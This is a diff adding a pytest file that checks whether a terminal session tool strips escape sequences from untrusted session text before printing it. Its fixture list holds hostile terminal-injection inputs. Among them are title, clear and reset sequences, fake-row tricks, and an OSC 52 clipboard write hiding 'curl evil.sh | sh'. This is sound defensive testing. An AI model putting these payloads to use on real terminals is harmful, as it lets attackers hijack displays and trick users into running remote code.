@@ -1,0 +1,113 @@
+"""Session text printed to a terminal carries no escape sequence: `purplemux status` on a pty."""
+
+from __future__ import annotations
+
+import re
+import shlex
+import subprocess
+import sys
+
+import pytest
+
+from purplemux.cli import TERMINAL_COLOURS
+from purplemux.doctor import Check
+from purplemux.termtext import clean
+from tests.support import Daemon, run_hook, wait_for
+
+TITLE = "\x1b]0;pwned\x07"
+CLEAR = "\x1b[2J\x1b[H"
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+HOSTILE = [
+    TITLE,
+    CLEAR,
+    CLIPBOARD,
+    "\x1bP1$qm\x1b\\",  # DCS
+    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink, ST-terminated
+    "\x9b2J",  # an 8-bit CSI
+    "\x9d0;c1 title\x9c",  # an 8-bit OSC
+    "a\rFAKE",
+    "b\nFAKE ROW",
+    "\x1bc",  # full reset
+    "\x08\x7f\x00",
+    "\u202egnp.exe",  # right-to-left override
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_clean_leaves_no_control_character(text: str) -> None:
+    out = clean("x" + text + "y")
+    assert out.startswith("x") and out.endswith("y")
+    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), repr(out)
+
+
+def test_clean_keeps_ordinary_text() -> None:
+    assert clean("ünïcødé 🚀 ~/work/proj-1 [x] 50%") == "ünïcødé 🚀 ~/work/proj-1 [x] 50%"
+    assert clean("two\nlines\r\n") == "two lines "
+    assert clean(TITLE + "kept") == "kept"
+
+
+def test_doctor_lines_are_plain_text_but_keep_their_colour() -> None:
+    line = Check("daemon", "fail", f"running {TITLE}1.0{CLEAR}", f"fix{CLIPBOARD}").line(True)
+    assert line.count("\x1b") == 2  # the FAIL label's colour and its reset
+    assert line.startswith("\x1b[31;1mFAIL\x1b[0m")
+    assert "running 1.0" in line and "\x07" not in line
+
+
+OURS = re.compile("|".join(re.escape(c) for c in [*TERMINAL_COLOURS.values(), "\x1b[0m"]))
+
+
+def test_status_on_a_terminal_prints_no_escape_sequence_but_its_colours(daemon: Daemon) -> None:
+    evil = "".join(HOSTILE)
+    base = {"transcript_path": "/nowhere.jsonl"}
+    run_hook(
+        daemon.home,
+        {
+            **base,
+            "session_id": "s1",
+            "cwd": f"/w/{evil}",
+            "hook_event_name": "PreToolUse",
+            "tool_name": f"Bash{CLIPBOARD}",
+            "tool_input": {"command": evil},
+        },
+        pane=f"%1{TITLE}",
+    )
+    run_hook(
+        daemon.home,
+        {
+            **base,
+            "session_id": f"{CLEAR}s2",
+            "cwd": "/w/p",
+            "hook_event_name": "Stop",
+            "last_assistant_message": f"done{evil}",
+        },
+    )
+    run_hook(
+        daemon.home,
+        {
+            **base,
+            "session_id": "s3",
+            "cwd": "/w/q",
+            "hook_event_name": "PermissionRequest",
+            "tool_name": f"Edit{TITLE}",
+            "tool_input": {"file_path": evil},
+        },
+    )
+    wait_for(lambda: len(daemon.sessions()) == 3)
+    env = {**daemon.env, "TERM": "xterm"}
+    command = shlex.join([sys.executable, "-m", "purplemux", "status"])
+    out = subprocess.run(
+        ["script", "-qec", command, "/dev/null"],
+        env=env,
+        capture_output=True,
+        timeout=30,
+        stdin=subprocess.DEVNULL,
+    )
+    assert out.returncode == 0, out
+    text = out.stdout.decode("utf-8")
+    assert text.count("\x1b[0m") == 3  # each state badge is coloured: we did run on a terminal
+    plain = OURS.sub("", text).replace("\r\n", "\n")
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", plain), repr(plain)
+    lines = plain.splitlines()
+    assert len(lines) == 4, lines  # the header and one row per session: no faked rows
+    assert lines[0].split() == ["STATE", "PROJECT", "PANE", "FOR", "DETAIL", "ID"]
+    assert "pwned" not in plain  # the title payload went with its sequence
